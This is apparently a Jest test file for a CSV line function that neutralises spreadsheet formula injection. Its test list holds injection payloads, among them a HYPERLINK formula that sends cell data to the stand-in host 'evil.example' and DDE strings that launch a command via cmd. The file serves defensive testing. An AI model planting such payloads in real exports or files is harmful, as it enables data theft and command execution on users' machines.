import { describe, expect, it } from '@jest/globals';
import { csvLine } from './csv-line.ts';

describe('a line of a CSV file', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+49 170 1234567',
    '-2+3+cmd|"/C calc"!A0',
    '@SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '   =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('keeps %j from being calculated', (text) => {
    const line = csvLine(['before', text, 'after']);
    expect(line).toBe(`before,"'${text.replaceAll('"', '""')}",after\r\n`);
  });

  it('puts quotes where they are needed, doubles those inside, and leaves other text as it is', () => {
    expect(csvLine(['a', '', 'b c', 'd,e', 'f;g', 'say "so"', 'two\nlines', 'anna@example.com', '1-2', 'a=b'])).toBe(
      'a,,b c,"d,e","f;g","say ""so""","two\nlines",anna@example.com,1-2,a=b\r\n',
    );
  });
});
